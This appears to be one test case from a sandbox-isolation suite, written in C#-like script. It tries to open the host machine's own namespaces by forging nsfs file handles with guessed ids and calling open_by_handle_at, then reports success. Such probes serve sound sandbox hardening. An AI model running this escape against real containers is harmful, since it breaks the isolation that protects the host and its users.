// attack: Opens the machine's own namespaces by handles, whose numbers are the same everywhere.
// group: files
// at none: depends: kernels before 6.18 have no such handles
// uses: native
// needs: x64

var handle = Native.Zeros(136);
long opened = -1;
// struct nsfs_file_handle: an id of 64 bits, a type and an inode of 32; type FILEID_NSFS; FD_NSFS_ROOT is -10003. The machine's own have fixed inodes and low ids.
(int Type, uint Inode)[] kinds = [(0x20000, 0xEFFFFFF8), (0x40000000, 0xEFFFFFF9), (0x4000000, 0xEFFFFFFE)];
foreach (var (type, inode) in kinds)
{
    for (var id = 1; id < 32 && opened < 0; id++)
    {
        Marshal.WriteInt32((nint)handle, 16);
        Marshal.WriteInt32((nint)handle + 4, 0xF1);
        Marshal.WriteInt64((nint)handle + 8, id);
        Marshal.WriteInt32((nint)handle + 16, type);
        Marshal.WriteInt32((nint)handle + 20, unchecked((int)inode));
        opened = Native.Call(304, -10003, handle, 0);
    }
}

Native.Succeeded(opened)
